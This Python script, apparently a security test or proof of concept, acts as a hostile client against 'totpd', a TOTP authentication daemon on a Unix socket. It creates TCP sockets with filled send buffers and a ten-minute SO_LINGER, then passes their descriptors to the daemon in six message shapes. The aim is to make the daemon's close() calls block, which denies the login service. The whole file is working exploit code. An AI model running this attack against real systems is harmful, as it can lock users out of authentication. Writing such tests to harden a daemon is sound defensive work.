"""What a hostile user sends to totpd: descriptors whose closing takes for ever."""
import os
import socket
import struct
import sys
import time

import wire

KEPT = []  # the other ends, which read nothing


def lingering():
    """The descriptor of a connection whose last reference takes ten minutes to close."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    sender = socket.socket()
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 65536)
    sender.connect(listener.getsockname())
    KEPT.append(listener.accept()[0])
    sender.setblocking(False)
    try:
        while True:
            sender.send(bytes(65536))
    except BlockingIOError:
        pass
    sender.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 600))
    return sender.detach()


def send(door, message, *extra):
    """With a lingering connection, whose last reference is then under way. Was it taken?"""
    descriptor = lingering()
    try:
        socket.send_fds(door, [message], [descriptor, *extra])
    except OSError:
        return False  # and kept open: to close it here would take ten minutes
    os.close(descriptor)
    return True


def request(user):
    return wire.request(wire.LOOK, user)


def in_a_request(door, user):
    return send(door, request(user))


def in_noise(door, _):
    return send(door, b"x")


def behind_a_request(door, user):
    door.send(request(user))
    return send(door, b"x")


def before_a_request(door, user):
    sent = send(door, b"x")
    door.send(request(user))
    return sent


def and_gone(door, user):
    sent = send(door, request(user))
    door.close()
    return sent


def with_the_connection_itself(door, user):
    sent = send(door, request(user), door.fileno())
    door.close()
    return sent


SHAPES = [in_a_request, in_noise, behind_a_request, before_a_request, and_gone,
          with_the_connection_itself]


def attack(user, rounds, path="/run/pam_totp/socket"):
    """All shapes so often; how many descriptors were taken? Then stay, with the other ends."""
    doors, taken = [], 0
    for _ in range(rounds):
        for shape in SHAPES:
            try:
                door = wire.connect(path)
                doors.append(door)
                taken += shape(door, user)
            except OSError:
                pass
    print(taken, flush=True)
    time.sleep(600)


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]))
